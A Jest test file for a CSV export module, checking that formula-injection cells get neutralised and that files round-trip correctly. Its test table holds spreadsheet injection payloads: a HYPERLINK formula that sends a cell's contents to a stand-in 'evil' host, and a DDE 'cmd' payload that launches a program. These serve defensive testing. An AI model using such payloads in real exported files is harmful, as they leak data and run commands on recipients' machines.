import { neutralizeFormula, toCsv } from "../../src/print/layout-csv";
import { parseCsv } from "../../src/services/exchange/csv";

describe("the CSV writer neutralises formula cells (reports, code slips)", () => {
  test.each([
    ["=1+1", "'=1+1"],
    ['=HYPERLINK("http://evil/?"&C2;"x")', `'=HYPERLINK("http://evil/?"&C2;"x")`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    // Plain numbers stay numbers; ordinary text is untouched.
    ["-3", "-3"],
    ["+7", "+7"],
    ["4,25", "4,25"],
    ["Иванова Мария", "Иванова Мария"],
    ["a=b", "a=b"],
    ["", ""],
  ])("%j → %j", (cell, expected) => {
    expect(neutralizeFormula(cell)).toBe(expected);
  });

  test("a whole file: quoting still right, numbers as numbers, read back as written", () => {
    const bytes = toCsv([["name", "n"], ["=1+1;2", -4], ['@x "q"', 3.5], [null, undefined]]);
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const text = bytes.subarray(3).toString("utf8");
    expect(text).toBe(`name;n\r\n"'=1+1;2";-4\r\n"'@x ""q""";3.5\r\n;\r\n`);
    expect(parseCsv(text, ";")).toEqual([["name", "n"], ["'=1+1;2", "-4"], ['\'@x "q"', "3.5"], ["", ""]]);
  });
});
